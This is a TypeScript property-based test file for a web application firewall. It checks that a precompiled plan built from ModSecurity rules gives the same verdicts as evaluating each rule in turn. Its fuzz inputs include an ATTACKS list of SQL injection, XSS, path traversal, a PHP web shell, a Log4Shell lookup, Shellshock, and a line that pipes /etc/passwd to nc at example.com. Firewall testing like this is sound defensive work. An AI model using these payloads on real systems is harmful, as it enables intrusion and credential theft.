import { deepEqual, equal, ok } from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { DEBIAN_RULES } from '../../bench/peers/modsecurity.ts'
import type { Inspected, Ruleset } from '../../src/firewall/index.ts'
import type { Watches } from '../../src/firewall/plan/watches.ts'
import { type Asked, ask, FORM, JSON_BODY, loaded } from './rulesets.ts'

/** Of a request those rules are asked that it concerns: it is told the same as if each rule had been asked in its order. */

/** The same rules, none decided beforehand, since a route may leave them out, and each asked of every request. */
function plainOf(text: string, options: Parameters<typeof loaded>[1] = {}): Ruleset {
  const nowhere = { rule: '1-9999999', tag: null, target: null, routes: ['nowhere'], place: PLACE }
  const { plan, ...ruleset } = loaded(text, { ...options, exclude: [...(options.exclude ?? []), nowhere] })
  const everyOf = ({ every }: Watches): Watches => ({ ...NO_CONDITIONS, every, always: every })
  return { ...ruleset, plan: { ...plan, watches: { 1: everyOf(plan.watches[1]), 2: everyOf(plan.watches[2]) } } }
}

const PLACE = { file: 'x.yaml', line: 1, column: 1 }
const NO_CONDITIONS = { variables: [], onCounts: [], joint: [], counted: 0 }

/** Asks both twice: what is remembered of the first time tells the same. */
function askBoth(ruleset: Ruleset, plain: Ruleset, asked: Asked): Inspected {
  const told = ask(plain, asked)
  deepEqual(ask(ruleset, asked), told)
  deepEqual(ask(ruleset, asked), told)
  return told
}

const ATTACKS = [
  "1' or 1=1 -- ",
  '1 union all select password from users',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%252f..%252fetc%252fshadow',
  '; cat /etc/passwd | nc example.com 80',
  '$(wget http://example.com/x)',
  '<?php system($_GET[0]); ?>',
  'php://filter/convert.base64-encode/resource=index.php',
  'http://127.0.0.1/x?',
  ['$', '{jndi:ldap://example.com/a}'].join(''),
  'java.lang.Runtime',
  'O:8:"stdClass":0:{}',
  'a\r\nSet-Cookie: b=c',
  'document.cookie="PHPSESSID=1"',
  '() { :;}; echo x',
  'sqlmap/1.5',
  '\0',
  '%uff1cscript',
]
const PIECES = [
  'a',
  'Z',
  '7',
  ' ',
  "'",
  '"',
  '<',
  '>',
  '=',
  '(',
  ')',
  ';',
  '/',
  '\\',
  '%',
  '&',
  '+',
  '-',
  '.',
  '\n',
  'é',
]

const text = fc
  .array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...PIECES) }, fc.constantFrom(...ATTACKS)), { maxLength: 5 })
  .map((pieces) => pieces.join(''))
const name = fc.constantFrom('q', 'reference', 'SID', '_charset_', 'PHPSESSID', 'a.b', 'x[$ne]')
const header = fc.constantFrom(
  'user-agent',
  'referer',
  'accept',
  'cookie',
  'range',
  'x-filename',
  'content-length',
  'host',
)

/** Requests with a text somewhere, or several. */
const request = fc
  .record({
    where: fc.constantFrom('query', 'form', 'json', 'xml', 'raw', 'header', 'path', 'multipart'),
    method: fc.constantFrom('GET', 'POST', 'HEAD', 'PUT', 'TRACE'),
    values: fc.array(fc.tuple(name, text), { maxLength: 3 }),
    headers: fc.dictionary(header, text, { maxKeys: 2 }),
  })
  .map(({ where, method, values, headers }): Asked => {
    const all = values.map(([, value]) => value).join(' ')
    const pairs = values.map(([key, value]) => `${encodeURIComponent(key)}=${encodeURIComponent(value)}`).join('&')
    const of: Record<string, Asked> = {
      query: { method, target: `/v1/transfers?${pairs}` },
      form: { body: pairs, headers: FORM },
      json: { body: JSON.stringify(Object.fromEntries(values)), headers: JSON_BODY },
      xml: { body: `<a b="x">${all}</a>`, headers: { 'content-type': 'text/xml' } },
      raw: { body: all, headers: { 'content-type': 'text/plain' } },
      header: { method, headers: { cookie: `a=${all}` } },
      path: { method, target: `/${encodeURIComponent(all)}/${all.replaceAll(/[\s?]/g, '')}` },
      multipart: {
        body: `--b\r\nContent-Disposition: form-data; name="q"; filename="${all}"\r\n\r\n${all}\r\n--b--\r\n`,
        headers: { 'content-type': 'multipart/form-data; boundary=b' },
      },
    }
    const asked = of[where] ?? {}
    return { ...asked, headers: { ...asked.headers, ...headers } }
  })

const noRules = existsSync(DEBIAN_RULES.rules) ? false : 'modsecurity-crs is not here'

describe('the Core Rule Set tells the same as if all of its rules were asked', { skip: noRules }, () => {
  for (const paranoia of [1, 4]) {
    it(`at paranoia ${paranoia}`, () => {
      const folder = DEBIAN_RULES.rules
      const files = readdirSync(folder).map((name) => ({
        path: join(folder, name),
        text: readFileSync(join(folder, name), 'latin1'),
      }))
      const exclude = [
        { rule: '942100', tag: null, target: 'ARGS:reference', routes: ['any'], place: PLACE },
        { rule: '941160', tag: null, target: null, routes: ['any'], place: PLACE },
        { rule: null, tag: 'attack-lfi', target: 'ARGS:q', routes: ['any'], place: PLACE },
      ]
      const ruleset = loaded('', { files, paranoia, exclude })
      const plain = plainOf('', { files, paranoia, exclude })
      let denied = 0
      fc.assert(
        fc.property(request, fc.constantFrom('any', 'other'), (asked, route) => {
          if (askBoth(ruleset, plain, { ...asked, route }).effect === 'deny') denied += 1
        }),
        { numRuns: 150 },
      )
      ok(denied > 10 && denied < 150, `${denied} were denied`)
    })
  }
})

const TARGETS = [
  'ARGS',
  'ARGS:q',
  'ARGS|!ARGS:q',
  'ARGS:/^r/|REQUEST_COOKIES',
  'ARGS_NAMES|QUERY_STRING',
  '&ARGS',
  '&REQUEST_HEADERS:Referer',
  '&ARGS:q',
  '&ARGS|!ARGS:q',
  'REQUEST_HEADERS',
  'REQUEST_HEADERS:User-Agent',
  'REQUEST_HEADERS|!REQUEST_HEADERS:Referer',
  'REQUEST_HEADERS_NAMES',
  'REQUEST_URI|REQUEST_BODY|XML:/*',
  'REQUEST_METHOD',
  'TX:seen',
  'TX:level',
  '&TX:level',
  'TX:/^of_/',
  'MATCHED_VAR',
  'REMOTE_ADDR',
  'GEO:country_code',
]
const OPERATORS = [
  '@rx ^.*$',
  '@rx select|etc',
  '@rx ([a-z])=',
  '!@rx ^[a-z]',
  '@rx ^(?!a)',
  '@pm script cat',
  '!@pm script',
  '@contains /',
  '@contains %{tx.seen}',
  '@streq ',
  '!@streq POST',
  '@within GET %{tx.seen}',
  '@ge 1',
  '@ge %{tx.level}',
  '@rx ^%{tx.level}',
  '!@eq 0',
  '@gt %{tx.count}',
  '@detectSQLi',
  '@detectXSS',
  '@validateByteRange 32-126',
  '@unconditionalMatch',
  '@geoLookup',
]
const FORMS = [
  '',
  't:lowercase',
  't:urlDecodeUni,t:lowercase',
  't:none,t:removeWhitespace,multiMatch',
  't:length',
  't:sha1',
]
const EFFECTS = [
  'setvar:tx.count=+1',
  'setvar:tx.seen=%{tx.0}',
  'setvar:tx.of_%{matched_var_name}=%{matched_var}',
  'setvar:!tx.seen',
  'setvar:tx.level=1',
  'setvar:tx.level=+1',
  'setvar:tx.seen=%{tx.level}',
  'capture',
  'ctl:ruleRemoveById=3',
  'ctl:ruleRemoveTargetById=2-5;ARGS:q',
  'ctl:ruleEngine=Off',
  'ctl:ruleEngine=DetectionOnly',
  'ctl:requestBodyProcessor=XML',
  "msg:'found %{matched_var_name}'",
]
const ENDS = ['pass', 'pass', 'pass', 'deny', 'allow', 'allow:phase', 'pass,skip:1', 'pass,skipAfter:END']

const condition = fc.tuple(
  fc.uniqueArray(fc.constantFrom(...TARGETS), { minLength: 1, maxLength: 2 }),
  fc.constantFrom(...OPERATORS),
  fc.constantFrom(...FORMS),
  fc.uniqueArray(fc.constantFrom(...EFFECTS), { maxLength: 2 }),
)
const rule = fc.record({
  phase: fc.constantFrom(1, 2, 2, 2),
  end: fc.constantFrom(...ENDS),
  head: condition,
  chained: fc.array(condition, { maxLength: 2 }),
})

/** Rules that do what rules may do, in any order, numbered from 1. */
const rules = fc.array(rule, { minLength: 1, maxLength: 10 }).map((all) => {
  const written = all.map(({ phase, end, head, chained }, index) => {
    const line = ([targets, operator, forms, effects]: typeof head, actions: readonly string[]): string =>
      `SecRule ${targets.join('|')} "${operator}" "${[...actions, forms, ...effects].filter((one) => one !== '').join(',')}"`
    const linked = (at: number): readonly string[] => (at < chained.length ? ['chain'] : [])
    return [
      line(head, [`id:${index + 1}`, `phase:${phase}`, end, ...linked(0)]),
      ...chained.map((condition, at) => line(condition, linked(at + 1))),
    ].join('\n')
  })
  return `${written.join('\n')}\nSecMarker END`
})

it('Any rules tell the same as if each were asked', () => {
  let matched = 0
  fc.assert(
    fc.property(rules, fc.array(request, { minLength: 1, maxLength: 6 }), (written, requests) => {
      const ruleset = loaded(written)
      const plain = plainOf(written)
      for (const asked of requests) {
        const { effect, signs } = askBoth(ruleset, plain, asked)
        if (effect === 'deny' || signs.length > 0) matched += 1
      }
    }),
    { numRuns: 300 },
  )
  ok(matched > 50, `${matched} matched`)
})

it('A text concerns a rule in any of the forms in which the rule looks at it', () => {
  const ruleset = loaded('SecRule ARGS "@contains or 1" "id:1,phase:2,t:lowercase,t:removeWhitespace,multiMatch,deny"')
  equal(ask(ruleset, { target: '/?q=OR%201' }).rule, '1')
  equal(ask(ruleset, { target: '/?q=OR1' }).rule, null)
})

it('What is the same for every request is decided as it would be asked', () => {
  equal(ask(loaded('SecRule &TX:level "!@pm script" "id:1,phase:1,deny"'), {}).rule, '1')
  const text = [
    'SecAction "id:1,phase:1,pass,nolog,setvar:tx.level=2"',
    'SecRule REQUEST_METHOD "@within %{tx.level} GET" "id:2,phase:1,chain,deny,setvar:tx.level=3"',
    'SecRule ARGS:level "@streq %{tx.level}"',
  ].join('\n')
  equal(ask(loaded(text), { target: '/?level=2' }).rule, null)
  equal(ask(loaded(text), { target: '/?level=3' }).rule, '2')
})

it('Where there is too much to be found out beforehand, each rule is asked', () => {
  const written = [
    'SecRule ARGS:first "@streq evil" "id:1,phase:2,deny"',
    'SecRule ARGS "@rx [ab]+x" "id:2,phase:2,t:lowercase,deny"',
  ].join('\n')
  const ruleset = loaded(written, { stepsMax: 200_000 })
  const plain = plainOf(written, { stepsMax: 200_000 })
  const long = 'ab'.repeat(60_000)
  const many = Array.from({ length: 25_000 }, (_, n) => `p${n}=v`).join('&')
  for (const rest of [`q=${long}`, `q=${long}X`, many]) {
    askBoth(ruleset, plain, { body: `first=kind&${rest}`, headers: FORM })
    askBoth(ruleset, plain, { body: `first=evil&${rest}`, headers: FORM })
  }
})
